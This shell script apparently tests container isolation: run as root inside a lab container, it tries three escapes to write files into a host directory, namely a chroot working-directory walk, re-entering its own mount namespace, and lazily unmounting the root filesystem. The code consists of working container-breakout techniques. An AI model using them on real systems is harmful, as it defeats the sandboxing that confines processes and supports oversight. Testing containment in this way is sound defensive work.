# escape.sh OUTSIDE STATUS runs in the container, as root, and tries to make files in the host's directory OUTSIDE.
b=/bin/busybox outside=$1 status=$2
[ -e /etc/labs-marker ] || { echo "this is no container of the labs" >&2; exit 1; } # its / is about to be unmounted

# walk: chroot(2) leaves the working directory alone. A process whose root is /cell and whose working directory is
# above it walks up with "..", past no root any more that would stop it: only where the mounts end.
$b mkdir -p /cell/bin
$b cp $b /cell/bin/busybox
$b nsenter -r/cell -w/ $b sh -c "cd -P ../../../../../../../.. && echo out >.$outside/walk"

# enter: who joins a mount namespace gets that namespace's root, even if it is the one he is in.
$b nsenter --mount=/proc/self/ns/mnt /bin/sh -c "echo out >$outside/enter"

# uncover: if / is a mount over the host's, it can be taken off. (A working directory in the old /proc still leads there.)
cd /proc
$b umount -l /
$b nsenter --mount=self/ns/mnt /bin/sh -c "echo out >$outside/uncover"
exit $status
